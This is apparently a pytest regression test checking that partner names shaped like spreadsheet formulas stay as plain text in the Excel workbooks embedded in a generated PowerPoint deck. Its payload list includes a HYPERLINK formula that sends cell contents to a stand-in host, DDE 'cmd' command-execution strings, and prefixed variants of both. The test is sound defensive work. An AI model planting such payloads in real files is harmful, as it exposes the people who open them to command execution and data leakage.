"""Issue 13, finding 9: a partner named like a formula stays text in the deck's chart workbooks (`ppt/embeddings/*.xlsx`),
which PowerPoint opens in Excel on "Edit data"."""
from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd

from resonance.ingest import load as ingest
from resonance.reports import deck as review_deck
from resonance.services import review
from resonance.services.partnership import campaign_id, ensure_partner, ensure_partnership

HOSTILE = ['=HYPERLINK("http://attaquant.test/?d="&A1,"Cliquez")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=3+4", "http://attaquant.test/x"]


def test_partner_names_like_formulas_are_text_cells_in_every_chart_workbook(demo_store):
    with demo_store.transaction() as con:
        campaign = campaign_id(con, "Match avec ton futur")
        partners = []
        for name in HOSTILE:
            partner = ensure_partner(con, name)
            ensure_partnership(con, campaign, partner)
            partners.append(partner)
    # one load for the eight partners (each load refreshes the campaign's rollups): the deck reads the same figures
    ingest.load(demo_store, source="test", campaign_id=campaign, file_name="hostile.csv", created_by="test",
                facts=pd.DataFrame([{
                    "campaign_id": campaign, "partner_id": partner, "channel": "social", "peso": "shared",
                    "platform": HOSTILE[index], "period_start": "2025-06-02", "period_end": "2025-06-02",
                    "metric": metric, "value": 1_000_000 + index}
                    for index, partner in enumerate(partners) for metric in ("impressions", "clicks")]),
                press=pd.DataFrame())
    deck = review_deck.build(demo_store, review.campaign_id_by_name(demo_store, "Match avec ton futur"), lang="fr")
    texts, formulas, books = [], [], 0
    with zipfile.ZipFile(io.BytesIO(deck)) as package:
        for name in package.namelist():
            if not (name.startswith("ppt/embeddings/") and name.endswith(".xlsx")):
                continue
            books += 1
            book = openpyxl.load_workbook(io.BytesIO(package.read(name)))
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        if cell.data_type == "f":
                            formulas.append((name, cell.coordinate, cell.value))
                        elif isinstance(cell.value, str):
                            texts.append(cell.value)
                        if cell.hyperlink is not None:
                            formulas.append((name, cell.coordinate, cell.hyperlink.target))
    assert books >= 2
    assert not formulas, formulas
    shown = "\n".join(texts)
    assert "=cmd|' /C calc'!A0" in shown and '=HYPERLINK("http://attaquant.test' in shown   # the names reached the charts
